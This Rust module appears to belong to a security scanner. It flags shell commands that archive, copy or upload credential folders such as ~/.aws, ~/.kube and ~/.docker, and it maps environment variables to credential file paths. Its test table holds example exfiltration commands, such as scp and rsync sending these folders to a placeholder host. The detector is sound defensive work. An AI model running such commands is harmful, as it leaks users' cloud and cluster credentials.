//! Programs that take all of a folder: they pack, copy or send what lies below it.

use std::borrow::Cow;

use super::acts::at_home;
use super::leaks::{Stolen, program};
use super::shell;
use super::words::short;
use crate::tables::folders;

/// Variables whose value is the path of a credential file, or of a folder of such, and where that usually is.
const NAMED: [(&str, &str); 8] = [
    ("npm_config_userconfig", "~/.npmrc"),
    ("NPM_CONFIG_USERCONFIG", "~/.npmrc"),
    ("KUBECONFIG", "~/.kube/config"),
    ("AWS_SHARED_CREDENTIALS_FILE", "~/.aws/credentials"),
    ("AWS_CONFIG_FILE", "~/.aws/config"),
    ("DOCKER_CONFIG", "~/.docker"),
    (
        "GOOGLE_APPLICATION_CREDENTIALS",
        "application_default_credentials.json",
    ),
    ("GNUPGHOME", "~/.gnupg"),
];

/// A path with what is known of its variables and substitutions put in.
pub(super) fn expanded(path: &str) -> Cow<'_, str> {
    if !path.contains(['$', '%', '`']) {
        return Cow::Borrowed(path);
    }
    let path = at_home(path);
    // `$(npm config get userconfig)`
    for text in shell::substitutions(&path).into_iter().take(4) {
        let words: Vec<&str> = text.split_whitespace().collect();
        if let [
            "npm" | "pnpm" | "yarn",
            ..,
            "get",
            "userconfig" | "globalconfig",
        ] = words.as_slice()
        {
            return Cow::Borrowed("~/.npmrc");
        }
    }
    if let Some(name) = shell::variables(&path).first()
        && let Some((_, place)) = NAMED.iter().find(|(known, _)| known == name)
    {
        let behind = path.split_once('/').map(|(_, behind)| behind);
        return Cow::Owned(match behind {
            Some(behind) => format!("{place}/{behind}"),
            None => (*place).to_owned(),
        });
    }
    Cow::Owned(path)
}

/// Secrets in the trees that a program takes.
pub(super) fn taken(words: &[String]) -> Vec<Stolen> {
    let Some((first, rest)) = words.split_first() else {
        return Vec::new();
    };
    let name = program(first);
    if !takes(&name, rest) {
        return Vec::new();
    }
    let mut operands = operands(&name, rest);
    // The last says where all of it goes.
    if !matches!(
        &*name,
        "tar" | "bsdtar" | "zip" | "7z" | "7za" | "7zz" | "rar" | "compress-archive"
    ) && operands.len() > 1
    {
        operands.pop();
    }
    operands.iter().flat_map(|path| below(path)).collect()
}

/// Secrets at or below a path.
fn below(path: &str) -> Option<Stolen> {
    let path = expanded(path);
    folders::tree(&path).map(|kind| Stolen {
        kind,
        detail: crate::place::clean(&path),
    })
}

/// Whether a program takes all that lies below what it is given.
fn takes(name: &str, rest: &[String]) -> bool {
    let has = |names: &[&str]| rest.iter().any(|word| names.contains(&word.as_str()));
    let is_tree = || {
        rest.iter().any(|word| {
            short(word, 'r')
                || short(word, 'R')
                || matches!(word.as_str(), "--recursive" | "--archive" | "-a")
                || word.eq_ignore_ascii_case("-recurse")
        })
    };
    match name {
        "tar" | "bsdtar" => creates(rest),
        "7z" | "7za" | "7zz" | "rar" => rest
            .first()
            .is_some_and(|word| matches!(word.as_str(), "a" | "u")),
        "compress-archive" | "robocopy" | "ditto" | "rclone" | "azcopy" | "s5cmd" | "mv" => true,
        "zip" | "cp" | "scp" | "sftp" | "rsync" | "copy-item" => is_tree(),
        "gsutil" | "gcloud" | "mc" | "s3cmd" | "aws" => {
            is_tree() || has(&["rsync", "sync", "mirror"])
        }
        "xcopy" => has(&["/e", "/s", "/E", "/S"]),
        _ => false,
    }
}

/// Whether `tar` makes an archive, and does not take one apart.
fn creates(rest: &[String]) -> bool {
    rest.iter().enumerate().any(|(at, word)| {
        if let Some(long) = word.strip_prefix("--") {
            return matches!(long, "create" | "append");
        }
        let options = word.strip_prefix('-');
        let options = options.or_else(|| (at == 0).then_some(word.as_str()));
        options.is_some_and(|options| options.len() <= 8 && options.contains(['c', 'r']))
    })
}

/// What is no option nor the value of one, seen from the folder that `tar -C` names.
fn operands(name: &str, rest: &[String]) -> Vec<String> {
    let is_tar = matches!(name, "tar" | "bsdtar");
    let mut folder: Option<&String> = None;
    let mut found = Vec::new();
    let mut words = rest.iter().enumerate();
    while let Some((at, word)) = words.next() {
        let is_option = word.starts_with('-');
        let is_cluster = is_tar && !word.starts_with("--") && (is_option || at == 0);
        if is_cluster && word.ends_with('C') || is_tar && word == "--directory" {
            folder = words.next().map(|(_, folder)| folder);
        } else if matches!(word.as_str(), "--exclude" | "--exclude-from" | "-X" | "-T") {
            words.next();
        } else if is_option {
            continue;
        } else {
            found.push(match folder {
                Some(folder) => seen_from(folder, word),
                None => word.clone(),
            });
        }
    }
    if let Some(long) = rest
        .iter()
        .find_map(|word| word.strip_prefix("--directory=").filter(|_| is_tar))
    {
        found = found.iter().map(|word| seen_from(long, word)).collect();
    }
    found
}

/// A path seen from a folder.
pub(super) fn seen_from(folder: &str, path: &str) -> String {
    if path.starts_with(['/', '~', '$', '%', '-']) || path.contains(':') {
        return path.to_owned();
    }
    format!("{}/{}", folder.trim_end_matches('/'), path)
}

#[cfg(test)]
mod tests {
    use super::taken;

    #[test]
    fn trees_of_a_home_are_taken() {
        for (line, is_taken) in [
            ("tar cz ~/.aws", true),
            ("tar -cz ~/.kube", true),
            ("tar --create -f x ~", true),
            ("tar czf x.tgz -C $HOME .aws .npmrc", true),
            ("tar czC ~ .docker", true),
            ("tar cz --directory=~ .", true),
            ("zip -r x.zip ~/.docker", true),
            ("cp -r ~/.aws x", true),
            ("mv ~/.m2 x", true),
            ("scp -r ~/.kube a@c.invalid:", true),
            ("rsync -a ~/.aws/ rsync://c.invalid/x", true),
            ("aws s3 sync ~/.config s3://b", true),
            ("7z a x.7z ~/.mozilla", true),
            ("tar xzf x.tgz -C ~", false),
            ("tar czf ~/x.tgz dist", false),
            ("tar cz --exclude ~/.aws dist", false),
            ("cp -r config ~/.config", false),
            ("cp x ~", false),
            ("rsync -a dist/ ~/.config", false),
            ("rsync -a a@c.invalid:x ~/.docker", false),
            ("zip x.zip ~/.docker", false),
            ("unzip x.zip -d ~", false),
            ("ls -R ~", false),
            ("tar cz .docker", false),
        ] {
            let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
            assert_eq!(!taken(&words).is_empty(), is_taken, "{line}");
        }
    }
}
